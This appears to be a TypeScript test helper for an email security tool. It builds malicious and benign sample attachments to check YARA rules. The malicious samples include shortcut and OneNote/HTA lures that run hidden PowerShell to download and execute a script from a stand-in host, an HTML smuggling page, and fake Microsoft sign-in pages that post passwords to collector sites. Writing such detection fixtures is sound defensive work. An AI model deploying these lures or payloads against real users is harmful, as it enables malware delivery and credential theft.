/** Test helper: a malicious sample and a benign counterpart for each of Moat's starter YARA rules. */
import { buildCfb, wordDirectory } from '../../attachments/testing/cfb-writer.ts'
import { docm, docx, lnkShortcut, oneNoteSection, pdfDocument } from '../../attachments/testing/samples.ts'
import { base64Blob } from '../../html/test-samples.ts'
import { buildMessage, type TestMessage } from '../../../testing/build-message.ts'

export { newsletter, smugglingPage } from '../../html/test-samples.ts'
export { docm, docx, pdfDocument }

/** MS-SHLLINK 2.1.1 LinkFlags: HasRelativePath, HasArguments, IsUnicode. */
const HAS_RELATIVE_PATH = 0x08
const HAS_ARGUMENTS = 0x20
const IS_UNICODE = 0x80

/** MS-SHLLINK 2.4 StringData: a character count, then UTF-16LE characters. */
function stringData(value: string): Buffer {
  const count = Buffer.alloc(2)
  count.writeUInt16LE(value.length)
  return Buffer.concat([count, Buffer.from(value, 'utf16le')])
}

/** A shortcut (the header of `lnkShortcut()`) to `relativePath`, with command-line `args` when given. */
export function shortcut(relativePath: string, args?: string): Buffer {
  const header = Buffer.from(lnkShortcut().subarray(0, 0x4c))
  header.writeUInt32LE(HAS_RELATIVE_PATH | IS_UNICODE | (args === undefined ? 0 : HAS_ARGUMENTS), 0x14)
  const strings = [stringData(relativePath), ...(args === undefined ? [] : [stringData(args)])]
  return Buffer.concat([header, ...strings, Buffer.alloc(4)])
}

/** The shape of 2022-23 campaigns: a shortcut into System32 that runs hidden PowerShell. */
export function powershellShortcut(): Buffer {
  return shortcut(
    '..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    '-w hidden -ep bypass -c "iwr https://cdn.example.net/a.ps1 | iex"',
  )
}

/** A shortcut to a document: what a person might share by mistake, harmless. */
export function documentShortcut(): Buffer {
  return shortcut('..\\Documents\\Quarterly report.pdf')
}

/** A data-URI download link: the smuggled file sits in the href itself. */
export function dataUriSmugglingPage(): string {
  return `<!DOCTYPE html><html><body><p>Your fax is ready.</p>
<a id="f" href="data:application/octet-stream;base64,${base64Blob(4000)}" download="Fax_2026.iso">Open fax</a>
<script>document.getElementById('f').click()</script></body></html>`
}

/** MS-ONESTORE 2.6.13 FileDataStoreObject: header GUID, size, unused, reserved, data, footer GUID. */
function fileDataStoreObject(data: Buffer): Buffer {
  const head = Buffer.alloc(36)
  Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex').copy(head)
  head.writeBigUInt64LE(BigInt(data.length), 16)
  const pad = Buffer.alloc((8 - (data.length % 8)) % 8)
  return Buffer.concat([head, data, pad, Buffer.from('22a7fb71790f0b4abb13899256426b24', 'hex')])
}

/** A .one section (header of `oneNoteSection()`) with UTF-16 page text and embedded files. */
export function oneNoteWith(pageText: string, embedded: Buffer[]): Buffer {
  return Buffer.concat([oneNoteSection(), Buffer.from(pageText, 'utf16le'), ...embedded.map(fileDataStoreObject)])
}

/** An HTA behind a "double click to view" button: the OneNote lure of early 2023. */
export function oneNoteLure(): Buffer {
  const hta =
    '<html><head><HTA:APPLICATION ID="doc" WINDOWSTATE="minimize"></head><script language="VBScript">' +
    'CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr https://cdn.example.net/p.ps1|iex", 0' +
    '</script></html>'
  return oneNoteWith('Invoice 2026-117 Double click to view document', [Buffer.from(hta)])
}

/** Meeting notes with a screenshot: what notebooks usually embed. */
export function oneNoteNotes(): Buffer {
  const png = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(200)])
  return oneNoteWith('Meeting notes: budget review, action items for Q3', [png])
}

/**
 * A Word 97-2003 document with a VBA project whose identifiers (kept as plain text by the VBA
 * performance cache) include `procedure`.
 */
export function wordWithMacro(procedure: string): Buffer {
  const cache = Buffer.from(`Attribute VB_Name = "ThisDocument"\0${procedure}\0Shell\0CreateObject\0`, 'latin1')
  return buildCfb(wordDirectory(true), cache)
}

/** A Word 97-2003 document without macros whose text talks about AutoOpen (a VBA tutorial). */
export function wordAboutMacros(): Buffer {
  return buildCfb(wordDirectory(false), Buffer.from('How to write an AutoOpen macro in Word', 'utf16le'))
}

/** A fake Microsoft sign-in page posting to another site, the commonest phishing attachment. */
export function harvestPage(): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in to your account</title></head>
<body><div class="logo">Microsoft</div><h1>Sign in</h1>
<p>Your session has expired. Sign in to view the shared document.</p>
<form method="post" action="https://login-secure.example.net/owa/next.php">
  <input type="email" name="login" placeholder="Email, phone, or Skype">
  <input name="passwd" type="password" placeholder="Password">
  <button type="submit">Sign in</button>
</form></body></html>`
}

/** The script variant: the form has no action; jQuery posts the password to the collector. */
export function harvestPageAjax(): string {
  return `<html><body><h2>Verify your mailbox</h2><p>Webmail quota exceeded.</p>
<form id="f"><input id="e" type="text"><input id="p" type="password"><button>Continue</button></form>
<script src="https://code.jquery.com/jquery-3.6.0.min.js"></script>
<script>$('#f').submit(function (e) { e.preventDefault();
  $.ajax({ url: 'https://collector.example.org/p.php', type: 'POST',
    data: { e: $('#e').val(), p: $('#p').val() } }) })</script>
</body></html>`
}

/** A customer survey posting to the vendor's site: an external form, but no password. */
export function surveyPage(): string {
  return `<html><body><h1>How did we do?</h1><p>Sign in to your Microsoft account is not needed.</p>
<form method="post" action="https://survey.example.com/answer"><input type="radio" name="q1" value="5">
<textarea name="comments"></textarea><button type="submit">Send</button></form></body></html>`
}

/** A whole message as the bytes of a message/rfc822 attachment. */
export function forwardOf(message: TestMessage): Buffer {
  return buildMessage(message)
}
